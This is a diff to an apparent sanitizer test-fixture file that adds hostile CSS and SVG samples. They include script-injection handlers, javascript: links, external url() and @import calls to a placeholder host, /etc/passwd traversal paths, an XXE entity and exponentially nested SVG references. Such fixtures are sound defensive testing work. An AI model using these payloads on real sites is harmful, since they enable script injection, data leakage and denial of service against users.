@@ -38,7 +38,47 @@ const styles: readonly string[] = [
   `:host{${cover}} ::slotted(*){${cover}} ::part(x){${cover}}`,
   `p:has(~ *){${cover}} :is(html,body,.copydesk-toolbar){${cover}}`,
   `&{${cover}} & > *{${cover}}`,
+  `@font-face{font-family:x;src:url(//$H/x.woff2),url("https://$H/y.woff") format("woff"),local("x")} body{font:9px x}`,
+  `@font-face{font-family:x;src:url(/a.woff)} @media all{@font-face{font-family:"y\\"};} p{display:none";src:url(https://$H/x.otf)}} p{font-family:x,y}`,
+  `@font-face{font-family:system-ui;src:local("Wingdings")} @font-face{font-family:"sans-serif";src:url(data:font/woff2;base64,AA)}`,
+  `@font-face{font-family:x;src:url(blob:https://$H/x),url(/%2e%2e/%2e%2e/etc/passwd),url(\\2f\\2f $H/x)} p{font-family:x}`,
+  `body{background:url(\\68ttps://$H/a.png)} p{background:url(/%2e%2e/%2e%2e/etc/passwd)}`,
+  `p{--a:"url(";--b:url(https://$H/a.png) "";background:var(--b)} i{--c:url( "https://$H/b.png" );content:var(--c)}`,
+  `p{background:var(--x,url(https://$H/a.png)),url(/a.png)} b{background:url(/a.png) var(--y) url(//$H/b.png)}`,
+  `p{background:image-set("https://$H/a.png" 1x,url(/a.png) 2x)} i{background:-webkit-image-set(url(//$H/b.png) 1x)}`,
+  `p{filter:url(/a.svg#f);mask:url(//$H/m.svg#m);cursor:url(/a.cur) 9 9,url(//$H/c.cur),auto;fill:url(//$H/f.svg#f)}`,
+  `p{background-image:url(https://$H@/a.png)} i{background-image:url(/\\/$H/b.png)} b{background-image:url(///$H/c.png)}`,
+  `svg{${cover} !important} svg *{filter:url(https://$H/f.svg#f);fill:url(https://$H/g.svg#g)}`,
 ];
+
+/** Drawings of a layout. */
+const drawings: readonly string[] = [
+  '<svg onload="$J" onclick="$J" tabindex="0" autofocus><path d="M0 0h9v9z" onclick="$J" onfocus="$J"/></svg>',
+  '<svg><script>$J</script><script href="https://$H/s.js"/><style>@import "https://$H/a.css";</style><path d="M0 0"/></svg>',
+  '<svg><a href="javascript:$J" xlink:href="javascript:$J"><text>x</text></a><set attributeName="href" to="javascript:$J"/></svg>',
+  '<svg><animate attributeName="d" values="$J" onbegin="$J" begin="0s"/><animateTransform onend="$J"/><path d="M0 0"/></svg>',
+  '<svg><foreignObject width="99" height="99"><iframe srcdoc="<script>$J</script>"></iframe><form action="https://$H/"><input></form></foreignObject><path d="M0 0"/></svg>',
+  '<svg><image href="https://$H/a.png"/><image xlink:href="//$H/b.png"/><feImage href="https://$H/c.png"/><path d="M0 0"/></svg>',
+  '<svg><path d="M0 0h9v9z" fill="url(https://$H/a.svg#a)" stroke="url(//$H/b.svg#b)" clip-path="url(https://$H/c.svg#c)" mask="url(https://$H/d.svg#d)"/></svg>',
+  '<svg style="position:fixed;inset:0;fill:url(https://$H/a.svg#a);background:url(https://$H/b.png)" width="99999" height="99999"><rect width="99999" height="99999" style="fill:red;filter:url(//$H/f#f)"/></svg>',
+  '<svg id="body" class="copydesk-toolbar vscode-dark"><path id="documentElement" d="M0 0" class="copydesk-layer" data-copydesk="x"/></svg>',
+  '<svg><use href="https://$H/a.svg#a"/><use xlink:href="//$H/b.svg#b"/><use href="data:image/svg+xml,<svg id=x onload=$J />#x"/><path d="M0 0"/></svg>',
+  '<svg><use href="/assets/bad.svg#bad"/><use href="/assets/bad.svg#loop"/></svg>',
+  '<svg><g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/><use href="#a"/><path d="M0 0"/></g></svg>',
+  `<svg>${Array.from({ length: 30 }, (_, at) => `<g id="n${at}"><use href="#n${at + 1}"/><use href="#n${at + 1}"/></g>`).join('')}<path id="n30" d="M0 0"/></svg>`,
+  `<svg>${Array.from({ length: 30 }, (_, at) => `<clipPath id="c${at}" clip-path="url(#c${at + 1})"><path clip-path="url(#c${at + 1})" d="M0 0h9v9z"/><path clip-path="url(#c${at + 1})" d="M0 0h9v9z"/></clipPath>`).join('')}<path clip-path="url(#c0)" d="M0 0h9v9z"/></svg>`,
+  '<svg><desc><img src=x onerror="$J"></desc><title><style><img src=x onerror=$J></style></title><path d="M0 0"/></svg>',
+  '<svg><p><img src=x onerror="$J"></svg><svg></p><style><a id="</style><img src=x onerror=$J>"></svg>',
+  `${'<svg>'.repeat(900)}<path d="M0 0"/>`,
+  `<svg><path d="${'M0 0h9'.repeat(40_000)}"/><text>${'W'.repeat(9000)}</text></svg>`,
+];
+
+/** A file of drawings of a site that is hostile. */
+export const hostileDrawing = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "https://$H/x">]>
+<svg xmlns="http://www.w3.org/2000/svg" onload="$J"><script>$J</script><style>@import url(https://$H/a.css);</style>
+<symbol id="bad" viewBox="0 0 9 9" onclick="$J"><image href="https://$H/a.png"/><path d="M0 0h9v9z" onclick="$J" fill="url(https://$H/b#b)"/>
+<foreignObject><img src="https://$H/c.png" onerror="$J"></foreignObject></symbol>
+<g id="loop"><use href="#loop"/><use href="/assets/bad.svg#loop"/><path d="M0 0"/></g></svg>`;
 
 /** What stands in the start tags and the head of a layout. */
 const tags: readonly string[] = [
@@ -79,4 +119,5 @@ export const hostileLayouts: readonly string[] = [
     style => `<!DOCTYPE html><html><head><style>${style}</style></head><body>${start}</body></html>`,
   ),
   ...tags,
+  ...drawings.map(drawing => `<body>${start}${drawing}`),
 ];
